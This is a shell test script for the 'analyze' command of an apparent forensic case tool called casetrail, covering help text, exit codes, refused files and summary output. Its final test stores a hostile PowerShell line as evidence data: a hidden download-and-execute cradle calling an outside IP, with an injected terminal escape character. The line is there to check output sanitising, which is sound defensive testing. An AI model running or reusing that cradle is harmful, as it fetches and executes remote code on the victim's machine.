#!/bin/sh
# t3000-analyze-cli.sh - `casetrail analyze`: help, usage errors, missing
# and foreign case files, an empty case, and the summary it prints.
. "$TOP_SRCDIR/tests/t/lib.sh"
. "$TOP_SRCDIR/tests/t/analysis-fixture.sh"

test_expect_success 'analyze --help describes the command' '
	casetrail analyze --help >out &&
	test_grep "usage: casetrail analyze" out &&
	test_grep -- "--knowledge FILE" out
'

test_expect_success 'usage errors exit 2' '
	test_exit_code 2 casetrail analyze 2>err &&
	test_grep "usage:" err &&
	test_exit_code 2 casetrail analyze a.db b.db 2>err &&
	test_exit_code 2 casetrail analyze --bogus a.db 2>err
'

test_expect_success 'a missing case file is an error and is not created' '
	test_must_fail casetrail analyze missing.db 2>err &&
	test_grep "missing.db" err &&
	test ! -e missing.db
'

test_expect_success 'a file that is not a case is refused unchanged' '
	printf "notes\n" >notes.txt &&
	cp notes.txt before &&
	test_exit_code 3 casetrail analyze notes.txt 2>err &&
	cmp before notes.txt
'

test_expect_success 'an empty case analyses to nothing' '
	fx_case empty.db &&
	casetrail analyze empty.db >out &&
	test_grep "0 findings" out &&
	test_grep "0 chain(s)" out &&
	test "$(sql empty.db "SELECT count(*) FROM finding")" = 0
'

test_expect_success 'the summary lists severities and chain steps' '
	fx_reference ref.db &&
	casetrail analyze ref.db >out &&
	test_grep "findings (0 critical, 10 high, 0 medium, 1 low, 3 info)" out &&
	test_grep "chain 1 (high): Attack chain" out &&
	test_grep "2024-03-13T14:02:17.0120000Z  high     PowerShell with encoded command" out &&
	casetrail analyze -q ref.db >quiet &&
	test ! -s quiet
'

test_expect_success 'evidence text cannot reach the terminal as control characters' '
	printf "%s\n" "INSERT INTO ev (rid, ts, src, eid, chan, image, cmd, pid, guid, pimage, ppid, pguid) VALUES (90, \"2024-03-13 15:00:00.0000000\", 101, 1, \"S\", \"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\", \"powershell -w hidden -nop -c IEX (New-Object Net.WebClient).DownloadString(\" || char(27) || \"[2J http://5.39.218.205/x)\", 9000, \"{esc}\", \"C:\\x.exe\", 1, NULL);" | fx_sql ref.db &&
	casetrail analyze ref.db >out &&
	! grep -q "$(printf "\033")" out
'

test_done
